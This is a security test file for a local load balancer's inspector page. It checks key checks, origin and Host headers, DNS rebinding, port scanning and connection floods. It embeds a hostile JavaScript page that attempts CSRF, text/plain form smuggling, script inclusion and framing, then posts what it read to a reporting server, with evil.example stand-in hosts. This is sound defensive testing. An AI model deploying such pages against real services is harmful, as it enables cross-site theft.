"""The inspector shows everything and invokes what it likes: nobody but who has its key asks it anything, and
no page but its own even with the key."""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest

from localalb.balancer.journal import KEPT
from localalb.stacks.home import ask
from tests.attacks.test_pages import REBOUND, SCAN, TOUCHES, dumped, evil, silent
from tests.clients.test_chromium import browsing
from tests.inspecting import Page
from tests.sites import Site, Sites, fixed, payload, says
from tests.waiting import until


@pytest.fixture(scope="module")
def page(cloud: Sites) -> Page:
    return Page(cloud.endpoint)


DOORS = [
    ("GET", "/api/requests"),
    ("GET", "/api/requests/1"),
    ("GET", "/api/stream"),
    ("GET", "/api/topology"),
    ("POST", "/api/send"),
    ("POST", "/api/explain"),
    ("POST", "/api/invoke"),
    ("OPTIONS", "/api/invoke"),
]


@pytest.mark.parametrize(("method", "path"), DOORS)
@pytest.mark.parametrize("key", ["", "the run's"])
def test_no_door_opens_without_its_key(cloud: Sites, page: Page, method: str, path: str, key: str) -> None:
    """The run's key is another: what leaks out of a shell's environment does not open the page."""
    shown = cloud.endpoint.key if key else ""
    assert "the key is missing or wrong" in page.error(method, path, 403, key=shown, json={})


def test_its_key_opens_nothing_else(cloud: Sites, page: Page) -> None:
    url = f"{cloud.endpoint_url}/_localalb/status"
    answer = page.request("GET", "/", headers={})
    assert answer.status_code == 200
    scope = f"AWS4-HMAC-SHA256 Credential={page.key}/20261123/us-east-1/lambda/aws4_request, Signature=0"
    for headers in ({"X-Localalb": page.key}, {"Authorization": scope}):
        script = (
            "import sys, json, urllib.request, urllib.error\n"
            "asked = urllib.request.Request(sys.argv[1], headers=json.loads(sys.argv[2]))\n"
            "try: urllib.request.urlopen(asked, timeout=10)\n"
            "except urllib.error.HTTPError as error: print(error.code)\n"
        )
        for where in (url, f"{cloud.endpoint_url}/2015-03-31/functions/"):
            command = [sys.executable, "-I", "-c", script, where, json.dumps(headers)]
            done = subprocess.run(command, capture_output=True, text=True, timeout=60)
            assert done.stdout.strip() == "403", done.stderr


@pytest.mark.parametrize(
    "headers",
    [
        {"Origin": "null"},
        {"Origin": "http://evil.example"},
        {"Origin": "the load balancer's own", "Sec-Fetch-Site": "same-site"},
        {"Sec-Fetch-Site": "same-site"},
        {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "document"},
        {"Host": "evil.example"},
        {"Host": "the load balancer's own"},
    ],
    ids=str,
)
@pytest.mark.parametrize(("method", "path"), DOORS)
def test_the_key_does_not_help_another_page(
    cloud: Sites, page: Page, method: str, path: str, headers: dict[str, str]
) -> None:
    """Not that of a load balancer's own port either, which is the same site: there run the user's functions,
    and what they pass on."""
    own = "127.0.0.1:8080"
    words = {"the load balancer's own": f"http://{own}" if "Origin" in headers else own}
    sent = {name: words.get(value, value) for name, value in headers.items()}
    response = page.request(method, path, headers=sent, json={})
    assert response.status_code == 403
    assert not [name for name in response.headers if name.lower().startswith("access-control-")]


def test_every_answer_is_of_this_origin_alone(page: Page) -> None:
    for path, key in (("/", ""), ("/api/requests", page.key), ("/api/requests", ""), ("/nothing", "")):
        headers = page.request("GET", path, key=key).headers
        assert "default-src 'self'" in headers["Content-Security-Policy"]
        assert "frame-ancestors 'none'" in headers["Content-Security-Policy"]
        assert headers["X-Content-Type-Options"] == "nosniff"
        assert headers["Cross-Origin-Resource-Policy"] == "same-origin"
        assert headers["Cross-Origin-Opener-Policy"] == "same-origin"
        assert headers["Cache-Control"] == "no-store"
        assert headers["Referrer-Policy"] == "no-referrer"
        assert "Set-Cookie" not in headers


def test_another_user_of_the_machine(cloud: Sites, page: Page) -> None:
    """Who sees the page's files, but neither the key nor the file that leads there."""
    door = ask(cloud.endpoint, "inspector")["door"].removeprefix("file://")
    script = (
        "import sys, urllib.request, urllib.error\n"
        "print(urllib.request.urlopen(sys.argv[1], timeout=10).status)\n"
        "try: urllib.request.urlopen(sys.argv[1] + 'api/requests', timeout=10)\n"
        "except urllib.error.HTTPError as error: print(error.code)\n"
        "try: open(sys.argv[2])\n"
        "except OSError as error: print(type(error).__name__)\n"
    )
    python = shutil.which("python3", path="/usr/bin") or sys.executable
    command = [python, "-I", "-c", script, page.url, door]
    expected = ["200", "403"]
    if os.getuid() == 0 and (runuser := shutil.which("runuser", path="/usr/sbin:/sbin:/usr/bin")):
        command = [runuser, "-u", "nobody", "--", *command]
        expected.append("PermissionError")
    done = subprocess.run(
        command, capture_output=True, text=True, timeout=60, cwd="/", env={"PATH": "/usr/bin:/bin"}
    )
    assert done.stdout.split() == expected, done.stderr


def test_the_key_is_in_no_process_list(cloud: Sites, page: Page, tmp_path: Path) -> None:
    """A browser's arguments are everybody's to read: `ui --open` gives it a file that leads to the page."""
    seen = tmp_path / "arguments"
    browser = tmp_path / "browser"
    browser.write_text(f'#!/bin/sh\nprintf "%s\\n" "$@" > {seen}\n')
    browser.chmod(0o755)
    environ = {**os.environ, "BROWSER": str(browser)}
    command = [sys.executable, "-m", "localalb", "ui", "--open"]
    done = subprocess.run(command, capture_output=True, text=True, timeout=60, cwd=tmp_path, env=environ)
    assert page.key in done.stdout
    assert until(seen.exists)
    assert until(seen.read_text).startswith("file://")
    assert page.key not in seen.read_text()
    assert page.key not in cloud.log.read_text()


# Has learned the key, and tries what a page can try. Tells its own server what it could read.
HOSTILE = """<!doctype html><iframe name="frame"></iframe><script>
const read = [], page = "PAGE", key = "KEY";
const invoke = JSON.stringify({function: "FUNCTION", event: "{}"});
async function attempt(path, options) {
  try { read.push(await (await fetch(page + path, options)).text()); } catch (error) {}
}
async function attack() {
  const headers = {"X-Localalb": key};
  await attempt("api/requests", {headers});
  await attempt("api/requests");
  await attempt("");
  await attempt("api/invoke", {method: "POST", headers, body: invoke});
  await attempt("api/invoke", {method: "POST", body: invoke});
  await attempt("api/invoke", {method: "POST", mode: "no-cors", headers, body: invoke});
  await attempt("api/invoke", {method: "POST", headers, credentials: "include", body: invoke});
  const form = Object.assign(document.createElement("form"),
    {action: page + "api/invoke", method: "POST", enctype: "text/plain", target: "frame"});
  const input = document.createElement("input");
  input.name = invoke.slice(0, -1) + ', "x": "';
  input.value = '"}';
  form.append(input);
  document.body.append(form);
  const frame = document.querySelector("iframe");
  const loaded = new Promise(done => { frame.onload = done; setTimeout(done, 3000); });
  form.submit();
  await loaded;
  const script = document.createElement("script");
  script.src = page + "api/requests";
  const tried = new Promise(done => {
    script.onload = () => { read.push("script"); done(); };
    script.onerror = done;
  });
  document.body.append(script);
  await tried;
  const framed = document.createElement("iframe");
  framed.src = page + "#" + key;
  const shown = new Promise(done => { framed.onload = done; setTimeout(done, 3000); });
  document.body.append(framed);
  await shown;
  try { read.push(framed.contentDocument.documentElement.outerHTML.includes("localalb") ? "frame" : ""); }
  catch (error) {}
  await fetch("TELL", {method: "POST", mode: "no-cors", body: JSON.stringify(read.filter(text => text))});
}
addEventListener("load", attack);
</script>"""


@pytest.mark.parametrize("where", ["a load balancer's own port", "http://127.0.0.1", "http://evil.example"])
def test_a_page_that_knows_the_key_gets_nothing(cloud: Sites, page: Page, tmp_path: Path, where: str) -> None:
    """What a function answers is shown at a port of 127.0.0.1 too, which is the inspector's site."""
    ran = tmp_path / "ran"
    arn = cloud.function(TOUCHES.format(path=str(ran)))
    html = HOSTILE.replace("PAGE", page.url).replace("KEY", page.key).replace("FUNCTION", arn)
    with evil("") as server:
        html = html.replace("TELL", f"http://127.0.0.1:{server.server_port}/done")
        server.page = html.encode()
        if where.startswith("http"):
            with browsing(f"{where}:{server.server_port}/", REBOUND):
                assert until(lambda: server.told), "the page never came to its end"
        else:
            with (
                cloud.deployed(says(html).replace("text/plain", "text/html")) as site,
                browsing(site.url + "/"),
            ):
                assert until(lambda: server.told), "the page never came to its end"
    assert server.told == [[]], "what the page could read"
    assert not ran.exists()
    found = page.post("/api/invoke", function=arn, event="{}")
    assert found["result"]["text"] == '"the secret"', "the attack could have worked"


def test_a_rebound_name_gets_nothing(page: Page) -> None:
    shown = dumped(f"http://evil.example:{page.port}/")
    assert "the Host is" in shown


def test_a_page_that_tries_all_ports_does_not_find_it(page: Page) -> None:
    """It looks like a port where nobody listens."""
    with silent() as nobody, evil("") as server:
        ports = [page.port, nobody]
        server.page = SCAN.replace("PORTS", str(ports)).replace("NAME", "none").encode()
        with browsing(f"http://evil.example:{server.server_port}/", REBOUND):
            assert until(lambda: server.told, 120), "the page never came to its end"
    (seen,) = server.told
    assert seen[str(page.port)] == seen[str(nobody)]


def pipelined(site: Site, count: int, path: str = "/many") -> None:
    """Have so many requests answered on one connection."""
    one = f"GET {path} HTTP/1.1\r\nHost: a\r\n\r\n".encode()
    with socket.create_connection(site.address, timeout=60) as client, client.makefile("rb") as answers:
        left = count
        while left:
            part = min(left, 200)
            client.sendall(one * part)
            for _ in range(part):
                assert answers.readline().startswith(b"HTTP/1.1 200 ")
                while answers.readline() != b"\r\n":
                    pass
            left -= part


@pytest.fixture(scope="module")
def many(cloud: Sites) -> Any:
    """A site with as many requests as are kept, each answered by a rule without a body."""
    with cloud.deployed() as site:
        cloud.rule(site, fixed(""), path="/many")
        pipelined(site, KEPT + 9)
        pipelined(site, 1, "/many?last")
        cloud.record_of(site, "/many?last")  # a client may have its response before that is noted
        yield site


def test_ten_thousand_requests_in_the_list(many: Site, page: Page) -> None:
    found = until(lambda: page.get("/api/requests"))
    assert len(found["requests"]) == KEPT == found["last"] - found["first"] + 1
    assert [each["id"] for each in found["requests"]] == list(range(found["first"], found["last"] + 1))
    after = page.get(f"/api/requests?after={found['last'] - 5}")["requests"]
    assert len(after) == 5
    assert len(ask_requests(many, page)) == KEPT


def ask_requests(site: Site, page: Page) -> list[Any]:
    """What a stream says from the beginning on."""
    first = page.get("/api/requests")["first"]
    with closing(page.events(first - 1)) as events:
        return [next(events) for _ in range(KEPT)]


def test_who_never_reads_holds_nothing(cloud: Sites, many: Site, page: Page) -> None:
    """The stream's reader takes nothing of megabytes: requests are answered, and the page of another."""
    readers = []
    for _ in range(3):
        reader = socket.socket()
        reader.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        reader.settimeout(30)
        reader.connect(("127.0.0.1", page.port))
        head = f"Host: 127.0.0.1:{page.port}\r\nX-Localalb: {page.key}"
        reader.sendall(f"GET /api/stream?after=0 HTTP/1.1\r\n{head}\r\n\r\n".encode())
        readers.append(reader)
    try:
        assert all(reader.recv(15) == b"HTTP/1.1 200 OK" for reader in readers)
        pipelined(many, 2000)
        assert len(page.get("/api/requests")["requests"]) == KEPT
        with closing(page.events(page.get("/api/requests")["last"])) as events:
            many.ask("/many?here")
            assert next(events)[1]["target"] == "/many?here"
    finally:
        for reader in readers:
            reader.close()


def test_a_megabyte_of_script_is_data(cloud: Sites, page: Page) -> None:
    script = b"<script>fetch('/api/requests')</script>\n" * 26_000
    with cloud.deployed() as site:
        site.ask("/script?</title><script>1</script>", "POST", data=script, headers={"X-A": "<script>"})
        (found,) = page.listed("/script?%3C/title%3E%3Cscript%3E1%3C/script%3E")
    response = page.request("GET", f"/api/requests/{found['id']}")
    assert response.headers["Content-Type"] == "application/json"
    opened = response.json()
    assert opened["received"]["body_length"] == len(script)
    assert opened["received"]["truncated"]
    assert len(response.content) < 6 * 1024 * 1024
    compile(opened["test"], "saved", "exec")


def test_a_crowd_at_its_door(cloud: Sites, page: Page) -> None:
    """Connections that send nothing cost it no thread, and keep nobody out."""
    crowd = [socket.create_connection(("127.0.0.1", page.port), timeout=30) for _ in range(500)]
    try:
        assert page.get("/api/requests")
    finally:
        for each in crowd:
            each.close()
    assert payload(cloud.functions.invoke(FunctionName=cloud.function(says("hello"))))["statusCode"] == 200


def test_the_file_that_ui_opens_leads_to_the_page(cloud: Sites, page: Page) -> None:
    """It is of another site, for a browser; yet nobody but its owner can read it."""
    shown = dumped(ask(cloud.endpoint, "inspector")["door"])
    assert "localalb" in shown
    assert "another site" not in shown
    assert "refresh" not in shown
